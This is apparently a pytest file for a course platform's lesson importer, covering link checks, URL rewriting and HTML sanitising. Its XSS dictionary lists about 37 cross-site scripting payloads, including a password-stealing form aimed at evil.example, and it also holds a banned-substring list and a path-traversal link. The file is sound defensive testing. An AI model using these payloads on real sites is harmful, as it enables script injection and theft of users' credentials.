"""Links and images in lessons: checked at import, rewritten to site URLs, and rendered to safe HTML."""
import re

import markdown
import pytest
from sqlalchemy import select

from lms.content.importer import import_content, prepare_courses
from lms.content.render import EXTENSIONS, render_markdown
from lms.documents.errors import ContentError, Problem
from lms.extensions import db
from lms.models import Course, Lesson
from tests.helpers import SQUARE_SVG

from .helpers import article_of, course_md, lesson_md, line_of, module_md, one_lesson_tree, unsafe_parts, write_tree


def fake_url(target) -> str:
    return f"/{target.kind}/{target.course}/{target.module}/{target.name}"


def link_problems(tmp_path, body: str, extra_files=None) -> list[tuple[int, str]]:
    """(line, message) of each problem found in a lesson with ``body`` (in courses/c/01-m/01-l.md)."""
    root = write_tree(tmp_path / "courses", one_lesson_tree(body, {"c/01-m/square.svg": SQUARE_SVG,
                                                                   **(extra_files or {})}))
    try:
        prepare_courses(root, fake_url)
    except ContentError as exc:
        assert {p.path for p in exc.problems} == {"courses/c/01-m/01-l.md"}, exc.problems
        return [(p.line, p.message) for p in exc.problems]
    return []


def lesson_text(tmp_path) -> str:
    return (tmp_path / "courses/c/01-m/01-l.md").read_text()


# --- checking ---------------------------------------------------------------------------------------------

def test_valid_links_and_images_pass(tmp_path):
    body = ("See ![a square](square.svg) and [the module](module.md), [the course](../course.md),\n"
            "[myself](01-l.md#part-two), [a site](https://example.org/page), [mail](mailto:a@example.org),\n"
            "[an anchor](#notes), <a href=\"square.svg\">the file</a> and <img src=\"square.svg\" alt=\"sq\">.\n\n"
            "[ref]: 01-l.md\n")
    assert link_problems(tmp_path, body) == []


@pytest.mark.parametrize("link", [
    "[the next lesson](02-next.md)",
    "[another module](../02-other/01-l.md)",
    "[up too far](../../../etc/passwd)",
    "[a folder](../01-m/)",
    "<a href=\"missing.md\">raw HTML</a>",
])
def test_broken_relative_link_is_reported_on_its_line(tmp_path, link):
    body = f"Intro paragraph.\n\nSecond paragraph with\na link: {link} here.\n\nEnd.\n"
    problems = link_problems(tmp_path, body)
    assert [line for line, _ in problems] == [line_of(lesson_text(tmp_path), link)]
    assert problems[0][1].startswith("broken link:")


def test_broken_reference_definition_is_reported_on_its_line(tmp_path):
    problems = link_problems(tmp_path, "Read [the guide][guide].\n\n[guide]: missing-guide.md\n")
    assert problems == [(line_of(lesson_text(tmp_path), "[guide]:"), "broken link: 'missing-guide.md' does not exist")]


@pytest.mark.parametrize("image", ["![A chart](chart.png)", '<img src="chart.png" alt="A chart">',
                                   "![A chart](../01-m/chart.png)"])
def test_broken_image_is_reported_on_its_line(tmp_path, image):
    body = f"# Title\n\nSome words.\n\n{image}\n"
    problems = link_problems(tmp_path, body)
    assert len(problems) == 1 and problems[0][0] == line_of(lesson_text(tmp_path), "chart.png")
    assert "chart.png" in problems[0][1] and "does not exist" in problems[0][1]


def test_image_pointing_at_a_lesson_is_reported(tmp_path):
    problems = link_problems(tmp_path, "Intro.\n\n![A lesson](01-l.md)\n")
    assert problems == [(line_of(lesson_text(tmp_path), "![A lesson]"), "image '01-l.md' is not an image file")]


def test_every_problem_of_a_lesson_is_reported_with_its_own_line(tmp_path):
    body = "[one](gone-1.md)\n\ntext\n\n[two](gone-2.md) and ![](square.svg)\n"
    problems = link_problems(tmp_path, body)
    text = lesson_text(tmp_path)
    assert [line for line, _ in problems] == sorted(
        [line_of(text, "gone-1"), line_of(text, "gone-2"), line_of(text, "gone-2")])


@pytest.mark.parametrize("code", [
    "```\n[x](missing.md) ![](nothing.png)\n```",
    "```markdown\n[x](missing.md)\n![](https://example.org/a.png)\n```",
    "~~~\n[x](missing.md)\n~~~",
    "   ```\n<img src=\"missing.png\">\n   ```",
    "Inline `[x](missing.md)` code.",
    "Double ``[x](missing.md) and `tick` `` code.",
    "Both `![](gone.png)` and `<a href=\"gone.md\">` in one line.",
])
def test_links_inside_code_are_ignored(tmp_path, code):
    assert link_problems(tmp_path, f"Show the syntax:\n\n{code}\n\nDone.\n") == []


def test_a_closed_fence_ends_the_ignored_part(tmp_path):
    body = "```\n[x](ignored.md)\n```\n\nAfter the fence: [y](reported.md)\n\n~~~\n[z](ignored-too.md)\n~~~\n"
    problems = link_problems(tmp_path, body)
    assert problems == [(line_of(lesson_text(tmp_path), "reported.md"), "broken link: 'reported.md' does not exist")]


@pytest.mark.parametrize("image", ["![](square.svg)", "![   ](square.svg)"])
def test_image_without_alt_text_is_reported(tmp_path, image):
    problems = link_problems(tmp_path, f"Intro.\n\n{image}\n")
    assert len(problems) == 1 and problems[0][0] == line_of(lesson_text(tmp_path), image)
    assert "needs alt text" in problems[0][1]


@pytest.mark.parametrize("image", ["![A photo](https://example.org/photo.png)",
                                   "![A photo](http://example.org/photo.png)",
                                   "![A photo](//cdn.example.org/photo.png)",
                                   '<img src="https://example.org/photo.png" alt="A photo">'])
def test_external_image_is_refused(tmp_path, image):
    problems = link_problems(tmp_path, f"Intro.\n\n{image}\n")
    assert len(problems) == 1 and problems[0][0] == line_of(lesson_text(tmp_path), "photo.png")
    assert "not on another site" in problems[0][1]


@pytest.mark.parametrize("image", ['<noscript><p title="</noscript><img src=//host/x.png>">',
                                   '<img src="/\\host/x.png" alt="A photo">',
                                   '<img src="/&#9;/host/x.png" alt="A photo">'])
def test_external_image_the_sanitiser_would_keep_is_refused(tmp_path, image):
    """The check sees what the sanitiser keeps, not what another HTML parser makes of the text."""
    problems = link_problems(tmp_path, f"Intro.\n\n{image}\n")
    refused = [line for line, message in problems if "not on another site" in message]
    assert refused == [line_of(lesson_text(tmp_path), "host/x.png")], problems


def test_broken_link_around_an_image_is_reported(tmp_path):
    problems = link_problems(tmp_path, "Intro.\n\n[![A square](square.svg)](missing.md)\n")
    assert problems == [(line_of(lesson_text(tmp_path), "missing.md"), "broken link: 'missing.md' does not exist")]


def test_broken_unquoted_html_image_is_reported(tmp_path):
    problems = link_problems(tmp_path, "Intro.\n\n<img src=missing.png alt=Missing>\n")
    assert [line for line, _ in problems] == [line_of(lesson_text(tmp_path), "missing.png")]


def test_links_inside_an_indented_code_block_are_ignored(tmp_path):
    assert link_problems(tmp_path, "Write links like this:\n\n    [next lesson](02-next.md)\n\nDone.\n") == []


def test_angle_bracket_link_to_a_file_name_with_spaces_passes(tmp_path):
    assert link_problems(tmp_path, "Get ![the chart](<my chart.svg>).\n", {"c/01-m/my chart.svg": SQUARE_SVG}) == []


def test_the_same_broken_link_on_two_lines_is_reported_on_each(tmp_path):
    body = "Intro.\n\nFirst [mention](gone.md).\n\nMore words.\n\nSecond [mention](gone.md).\n"
    problems = link_problems(tmp_path, body)
    text = lesson_text(tmp_path)
    assert [line for line, _ in problems] == [line_of(text, "First [mention]"), line_of(text, "Second [mention]")]


def test_broken_link_is_reported_where_the_link_is_not_where_its_name_is_mentioned(tmp_path):
    body = "Name the file `gone.md`, then link it:\n\n[the file](gone.md)\n"
    problems = link_problems(tmp_path, body)
    assert [line for line, _ in problems] == [line_of(lesson_text(tmp_path), "[the file](gone.md)")]


@pytest.mark.parametrize("link,files", [
    ("[A draft](../_drafts/01-x.md)", {"c/_drafts/01-x.md": lesson_md()}),
    ("[A note](_notes/x.md)", {"c/01-m/_notes/x.md": lesson_md()}),
    ("[The read-me](../../README.md)", {"README.md": "Read me."}),
])
def test_link_to_a_file_that_is_never_imported_is_broken(tmp_path, link, files):
    problems = link_problems(tmp_path, f"Intro.\n\n{link}\n", files)
    assert [line for line, _ in problems] == [line_of(lesson_text(tmp_path), link)]
    assert problems[0][1].startswith("broken link:")


def test_link_to_a_file_with_its_own_problem_is_not_reported_twice(tmp_path):
    files = {**one_lesson_tree("See [the other lesson](02-x.md).\n"), "c/01-m/02-x.md": lesson_md(minutes="ten")}
    with pytest.raises(ContentError) as caught:
        prepare_courses(write_tree(tmp_path / "courses", files), fake_url)
    assert [str(p).split(": ", 1)[0] for p in caught.value.problems] == ["courses/c/01-m/02-x.md:3"]


# --- rewriting to site URLs -------------------------------------------------------------------------------

def stored(app, model, **where):
    with app.app_context():
        row = db.session.scalar(select(model).filter_by(**where))
        assert row is not None, where
        return row


def hrefs_and_srcs(html: str) -> list[str]:
    return re.findall(r'(?:href|src)="([^"]*)"', html)


def test_relative_links_and_images_become_site_urls(app, client, content, make_user, login):
    first = stored(app, Lesson, slug="first-steps").body_html
    drill = stored(app, Lesson, slug="drill").body_html
    intro = stored(app, Course, slug="intro-course").intro_html
    assert hrefs_and_srcs(first) == ["/courses/intro-course/basics/assets/square.svg",
                                     "/courses/intro-course/basics/second-steps#top"]
    assert hrefs_and_srcs(drill) == ["/courses/intro-course/basics/first-steps"]
    assert hrefs_and_srcs(intro) == ["/courses/intro-course/#module-basics"]
    # Each rewritten URL leads somewhere real for a learner.
    login(make_user("diplomat"))
    svg = client.get("/courses/intro-course/basics/assets/square.svg")
    assert svg.status_code == 200 and svg.mimetype == "image/svg+xml"
    assert svg.data == (content / "intro-course/01-basics/square.svg").read_bytes()
    second = client.get("/courses/intro-course/basics/second-steps")
    assert second.status_code == 200 and "Second steps" in second.get_data(as_text=True)
    assert client.get("/courses/intro-course/basics/first-steps").status_code == 200
    course_page = client.get("/courses/intro-course/").get_data(as_text=True)
    assert 'id="module-basics"' in course_page


def test_links_across_modules_courses_and_odd_file_names_are_rewritten(app, tmp_path):
    root = write_tree(tmp_path / "courses", {
        "01-one/course.md": course_md(body="Start with [the first lesson](01-m/01-a.md).\n"),
        "01-one/01-m/module.md": module_md(),
        "01-one/01-m/01-a.md": lesson_md(body=(
            "[Other course](../../02-two/course.md), [its lesson](../../02-two/03-n/05-b.md#end),\n"
            "[the file](my%20chart.pdf), ![the square](my%20square.svg) and [up](../course.md).\n")),
        "01-one/01-m/my chart.pdf": b"%PDF-1.4",
        "01-one/01-m/my square.svg": SQUARE_SVG,
        "02-two/course.md": course_md(), "02-two/03-n/module.md": module_md(),
        "02-two/03-n/05-b.md": lesson_md(body="Back to [one](../../01-one/01-m/01-a.md).\n"),
    })
    with app.app_context():
        import_content(root)
        db.session.commit()
    assert hrefs_and_srcs(stored(app, Lesson, slug="a").body_html) == [
        "/courses/two/", "/courses/two/n/b#end", "/courses/one/m/assets/my%20chart.pdf",
        "/courses/one/m/assets/my%20square.svg", "/courses/one/"]
    assert hrefs_and_srcs(stored(app, Lesson, slug="b").body_html) == ["/courses/one/m/a"]
    assert hrefs_and_srcs(stored(app, Course, slug="one").intro_html) == ["/courses/one/m/a"]


def test_external_links_and_anchors_are_kept_and_get_rel_noopener(app, tmp_path):
    body = "[site](https://example.org/a?b=1), [mail](mailto:x@example.org), [here](#part-two)\n"
    with app.app_context():
        import_content(write_tree(tmp_path / "courses", one_lesson_tree(body)))
        db.session.commit()
    html = stored(app, Lesson, slug="l").body_html
    assert hrefs_and_srcs(html) == ["https://example.org/a?b=1", "mailto:x@example.org", "#part-two"]
    assert html.count('rel="noopener noreferrer"') == 3


def test_link_to_a_module_with_a_fragment_gives_one_fragment(app, tmp_path):
    with app.app_context():
        import_content(write_tree(tmp_path / "courses", one_lesson_tree("See [the goals](module.md#goals).\n")))
        db.session.commit()
    [href] = hrefs_and_srcs(stored(app, Lesson, slug="l").body_html)
    assert href.startswith("/courses/c/") and href.count("#") <= 1


# --- sanitising -------------------------------------------------------------------------------------------

XSS = {
    "script tag": '<script>alert("x")</script>',
    "upper-case script with src": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "img onerror": "<img src=square.svg alt=square onerror=alert(1)>",
    "img onerror on a real image": '<img src="square.svg" alt="square" onerror="alert(1)"/>',
    "onerror through attr_list": '![square](square.svg){: onerror="alert(1)" }',
    "a onclick": '<a href="#top" onclick="alert(1)">click me</a>',
    "onclick through attr_list": '[click me](#top){: onclick="alert(1)" }',
    "upper-case handler": '<a href="#top" ONMOUSEOVER="alert(1)">hover</a>',
    "markdown javascript: link": "[click me](javascript:alert(1))",
    "angle-bracket javascript: link": "[click me](<javascript:alert(1)>)",
    "html javascript: link": '<a href="javascript:alert(1)">click me</a>',
    "mixed-case JaVaScRiPt:": '<a href="JaVaScRiPt:alert(1)">click me</a>',
    "entity-encoded colon": "<a href=JaVaScRiPt&#58;alert(1)>click me</a>",
    "entity-encoded scheme": "<a href=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>x</a>",
    "entity tab inside scheme": "<a href=java&#x09;script:alert(1)>click me</a>",
    "leading spaces": '<a href="  javascript:alert(1)">click me</a>',
    "leading control character": '<a href="\x01javascript:alert(1)">click me</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">click me</a>',
    "data:text/html link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">open</a>',
    "markdown data:text/html link": "[open](data:text/html,<script>alert(1)</script>)",
    "iframe javascript": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="javascript:alert(1)">',
    "svg onload": "<svg onload=alert(1)>",
    "style tag": "<style>body{display:none}</style>",
    "style attribute": '<div style="background:url(javascript:alert(1))">styled</div>',
    "form": '<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>',
    "input onfocus": "<input autofocus onfocus=alert(1)>",
    "details ontoggle": "<details open ontoggle=alert(1)>",
    "math xlink:href": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base href": '<base href="javascript:alert(1)//">',
    "broken markup: nested script": "<scr<script>ipt>alert(1)</script>",
    "broken markup: double bracket": "<<script>alert(1)//<</script>",
    "markdown inside html": '<div markdown="1">[click me](javascript:alert(1))</div>',
}


# Plain substrings none of which may survive anywhere in the output, whatever the payload.
BANNED = ["<script", "onerror", "onclick", "onload", "onmouseover", "onfocus", "ontoggle", "javascript:",
          "vbscript:", "data:text/html", "<iframe", "srcdoc", "<object", "<embed", "<svg", "<math", "<style",
          "style=", "<form", "<input", "<button", "<meta", "<base", "alert("]


def assert_safe(html: str) -> None:
    assert unsafe_parts(html) == [], html
    assert [banned for banned in BANNED if banned in html.lower()] == [], html
    assert "Harmless words before." in html and "Harmless words after." in html, html


def xss_body(payload: str) -> str:
    return f"Harmless words before.\n\n{payload}\n\nHarmless words after.\n"


def test_every_payload_would_be_dangerous_without_the_sanitiser():
    """Guards the list above: each payload really is unsafe once rendered, and the check can see it."""
    for name, payload in XSS.items():
        assert unsafe_parts(markdown.markdown(xss_body(payload), extensions=EXTENSIONS)), name


@pytest.mark.parametrize("payload", XSS.values(), ids=XSS.keys())
def test_the_renderer_removes_the_payload_and_keeps_the_text(payload):
    assert_safe(render_markdown(xss_body(payload)))


def import_payload(app, tmp_path, payload: str) -> list[Problem] | None:
    """Import a lesson holding ``payload``; the problems if the import refused it, else None."""
    root = write_tree(tmp_path / "courses", one_lesson_tree(xss_body(payload), {"c/01-m/square.svg": SQUARE_SVG}))
    with app.app_context():
        try:
            import_content(root)
        except ContentError as exc:
            db.session.rollback()
            return exc.problems
        db.session.commit()
    return None


def test_most_payloads_reach_the_database_and_the_page(tmp_path):
    """The import may refuse some payloads outright (bad link schemes); enough must get through to test
    what is stored and shown, not only what is refused."""
    imported = [name for name, payload in XSS.items() if prepare_or_problems(tmp_path / name, payload) is None]
    assert len(imported) >= 15, imported


def prepare_or_problems(folder, payload):
    root = write_tree(folder / "courses", one_lesson_tree(xss_body(payload), {"c/01-m/square.svg": SQUARE_SVG}))
    try:
        prepare_courses(root, fake_url)
    except ContentError as exc:
        return exc.problems
    return None


@pytest.mark.parametrize("payload", XSS.values(), ids=XSS.keys())
def test_payload_is_neither_stored_nor_shown(app, client, make_user, login, tmp_path, payload):
    problems = import_payload(app, tmp_path, payload)
    login(make_user("diplomat"))
    page = client.get("/courses/c/m/l")
    if problems is not None:
        # Refused: for the payload's own file, and nothing of it reached the database or a page.
        assert {p.path for p in problems} == {"courses/c/01-m/01-l.md"}, problems
        with app.app_context():
            assert db.session.scalars(select(Lesson)).all() == []
        assert page.status_code == 404
        return
    assert_safe(stored(app, Lesson, slug="l").body_html)
    assert page.status_code == 200
    assert_safe(article_of(page.get_data(as_text=True)))


@pytest.mark.parametrize("link", ['<a href="&#106;avascript:alert(1)">x</a>', "[x](&#x6A;avascript:alert(1))",
                                  '<a href="jav&#x09;ascript:alert(1)">x</a>'])
def test_entity_encoded_javascript_in_a_link_is_refused_on_its_line(tmp_path, link):
    problems = link_problems(tmp_path, xss_body(link))
    assert problems and {line for line, _ in problems} == {line_of(lesson_text(tmp_path), link)}


def test_course_and_module_introductions_are_sanitised_too(app, tmp_path):
    payload = ('<script>alert(1)</script><a href="#x" onclick="alert(1)">Intro words.</a>'
               '<object data="https://evil.example/x.swf"></object><style>p{display:none}</style>')
    files = one_lesson_tree("Fine.\n")
    files["c/course.md"] = course_md(body=payload + "\n")
    files["c/01-m/module.md"] = module_md(body=payload + "\n")
    with app.app_context():
        import_content(write_tree(tmp_path / "courses", files))
        db.session.commit()
        course = db.session.scalar(select(Course))
        for html in (course.intro_html, course.modules[0].intro_html):
            assert unsafe_parts(html) == [] and "Intro words." in html, html


def test_a_link_with_an_old_number_still_finds_its_renumbered_page(tmp_path):
    files = {**one_lesson_tree("See [the other lesson](02-x.md).\n"), "c/01-m/05-x.md": lesson_md()}
    _courses, html = prepare_courses(write_tree(tmp_path / "courses", files), fake_url)
    assert 'href="/lesson/c/m/x"' in next(value for value in html.values() if "the other lesson" in value)


def test_an_old_number_matching_two_pages_is_still_a_broken_link(tmp_path):
    files = {**one_lesson_tree("See [x](09-x.md).\n"), "c/01-m/05-x.md": lesson_md(),
             "c/02-n/module.md": module_md(), "c/02-n/05-x.md": lesson_md()}
    files["c/01-m/01-l.md"] = files["c/01-m/01-l.md"].replace("09-x.md", "../09-x.md")
    with pytest.raises(ContentError) as caught:
        prepare_courses(write_tree(tmp_path / "courses", files), fake_url)
    assert "broken link" in str(caught.value)
